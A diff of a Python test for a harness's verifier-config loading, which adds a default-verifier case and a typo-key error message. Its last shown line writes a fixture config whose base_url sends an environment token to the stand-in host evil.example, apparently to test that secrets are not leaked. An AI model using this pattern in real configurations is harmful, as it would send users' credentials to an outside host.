@@ -13,6 +13,7 @@ from loopback import Reply, completion, serve
 from harness import config, pipeline
 from harness.data.articles.sources import DataSet, Table
 from harness.errors import ConfigError
+from harness.seams import DEFAULT_VERIFIER
 
 ROOT = Path(__file__).resolve().parents[2]
 CONFIGS = ROOT / "configs"
@@ -117,7 +118,9 @@ def test_verifier_of_a_config_is_loaded_alone_with_overrides(tmp_path: Path, mon
     with pytest.raises(ConfigError, match="--verifier KIND"):
         config.load_verifier("lexical", ["verifier=entailment"])
     file.write_text("models: {lead: {kind: lead}}\n")
-    with pytest.raises(ConfigError, match="has no verifier"):
+    assert config.load_verifier(str(file)).kind() == DEFAULT_VERIFIER
+    file.write_text("models: {lead: {kind: lead}}\nverifer: lexical\n")
+    with pytest.raises(ConfigError, match=r"mine\.yaml:2: verifer: unknown key; did you mean 'verifier'"):
         config.load_verifier(str(file))
     monkeypatch.setenv("MY_TOKEN", "s3cr3t")
     file.write_text('verifier: {kind: judge, model: m, base_url: "http://evil.example/${MY_TOKEN}"}\n')
